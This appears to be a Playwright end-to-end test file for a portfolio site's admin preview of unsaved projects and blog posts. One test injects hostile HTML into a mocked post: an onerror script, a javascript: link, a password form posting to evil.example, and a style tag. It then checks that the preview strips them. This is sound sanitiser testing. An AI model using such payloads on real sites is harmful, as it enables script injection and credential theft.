import { expect, test } from "@playwright/test";
import { E2E_ADMIN, OWNER_SERVER_LOCK } from "../../playwright.config";

// These tests change the owner copy's content: one at a time.
test.describe.configure({ lock: OWNER_SERVER_LOCK });

/**
 * 'Preview' in the project and post forms: the unsaved content drawn by the public page's own
 * components in the admin, for the signed-in owner only; nothing is saved, and closing it returns
 * to the form as it was.
 */
test.beforeEach(async ({ page, context, baseURL }, testInfo) => {
  // Each test its own client, derived from the test's id (not from when it starts, which two tests of
  // one worker can share).
  const n = [...testInfo.testId].reduce((hash, char) => (hash * 31 + char.charCodeAt(0)) >>> 0, 13);
  await context.setExtraHTTPHeaders({ "x-forwarded-for": `10.66.${(n >>> 8) & 255}.${n & 255}` });
  const signIn = await page.request.post("/api/auth/signin", {
    data: E2E_ADMIN,
    headers: { origin: new URL(baseURL!).origin },
  });
  expect(signIn.status()).toBe(200);
});

const unique = (prefix: string) => `${prefix} ${Date.now().toString(36)}`;

test("a project's unsaved content is previewed as its page, and nothing is saved", async ({ page }) => {
  const title = unique("Preview of a harmonic drive");
  await page.goto("/admin/projects");
  await page.getByRole("button", { name: "New Project" }).click();
  await page.getByLabel("Title").fill(title);
  await page.getByLabel("Overview").fill("A compact strain-wave gearbox for a robot wrist.");
  await page.getByLabel("Challenge").fill("Backlash under 1 arcmin at 40 N·m.");
  await page.getByLabel("Tech stack").fill("SolidWorks, ANSYS");

  const opener = page.getByRole("button", { name: "Preview" });
  await opener.click();
  const preview = page.getByRole("dialog", { name: `Preview of ${title} — not saved, only you can see it` });
  await expect(preview).toBeVisible();
  await expect(preview.getByRole("heading", { level: 1 })).toHaveText(title);
  await expect(preview.getByRole("heading", { name: "Overview" })).toBeVisible();
  await expect(preview).toContainText("A compact strain-wave gearbox for a robot wrist.");
  await expect(preview).toContainText("Backlash under 1 arcmin at 40 N·m.");
  await expect(preview.getByRole("complementary", { name: "Project facts" })).toContainText("ANSYS");

  await page.keyboard.press("Escape");
  await expect(preview).toBeHidden();
  await expect(opener).toBeFocused();
  await expect(page.getByLabel("Title")).toHaveValue(title);

  const stored = (await (await page.request.get("/api/admin/projects")).json()) as { projects: { title: string }[] };
  expect(stored.projects.map((project) => project.title)).not.toContain(title);
});

test("a post's unsaved content is previewed as its page", async ({ page }) => {
  const title = unique("Preview of a post on tolerance stacks");
  await page.goto("/admin/blog");
  await page.getByRole("button", { name: "New Post" }).click();
  await page.getByLabel("Title").fill(title);
  await page.getByLabel("Excerpt").fill("Why worst-case stacks overdesign.");
  await page.getByRole("textbox", { name: "Content" }).click();
  await page.keyboard.type("Root-sum-square stacks predict real assemblies better.");

  await page.getByRole("button", { name: "Preview" }).click();
  const preview = page.getByRole("dialog", { name: /^Preview of / });
  await expect(preview.getByRole("heading", { level: 1 })).toHaveText(title);
  await expect(preview.getByTestId("blog-content")).toHaveText(
    "Root-sum-square stacks predict real assemblies better.",
  );
  await expect(preview).toContainText("Why worst-case stacks overdesign.");
  await preview.getByRole("button", { name: "Close preview" }).click();
  await expect(preview).toBeHidden();

  const stored = (await (await page.request.get("/api/admin/posts")).json()) as { posts: { title: string }[] };
  expect(stored.posts.map((post) => post.title)).not.toContain(title);
});

test("a post whose stored HTML was written outside the admin is previewed as its public page sanitises it", async ({
  page,
}) => {
  // What a post written through SQL or a table editor can hold: the admin never wrote it.
  const hostile = [
    "<p>Tolerances first.</p>",
    '<img src="/nowhere.png" alt="a stack" onerror="document.title=\'pwned\'">',
    "<p><a href=\"javascript:document.title='pwned'\">a link</a></p>",
    '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>',
    "<style>body { display: none }</style>",
  ].join("");
  await page.route("**/api/admin/posts", async (route) => {
    if (route.request().method() !== "GET") return route.fallback();
    const answer = await route.fetch();
    const body = (await answer.json()) as { posts: { content: string }[] };
    body.posts[0]!.content = hostile;
    await route.fulfill({ response: answer, json: body });
  });
  const sanitised = page.waitForResponse(
    (response) => response.url().endsWith("/api/admin/preview/post") && response.request().method() === "POST",
  );
  await page.goto("/admin/blog");
  await page
    .getByRole("button", { name: /^Edit / })
    .first()
    .click();
  await page.getByRole("button", { name: "Preview" }).click();
  const preview = page.getByRole("dialog", { name: /^Preview of / });
  expect((await sanitised).status()).toBe(200);
  const content = preview.getByTestId("blog-content");
  await expect(content).toContainText("Tolerances first.");
  await expect(content.getByRole("img", { name: "a stack" })).toBeAttached();
  await expect(content.locator("[onerror]")).toHaveCount(0);
  await expect(content.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(content.locator("form, input, button, style, script")).toHaveCount(0);
  await expect(page).not.toHaveTitle("pwned");
});
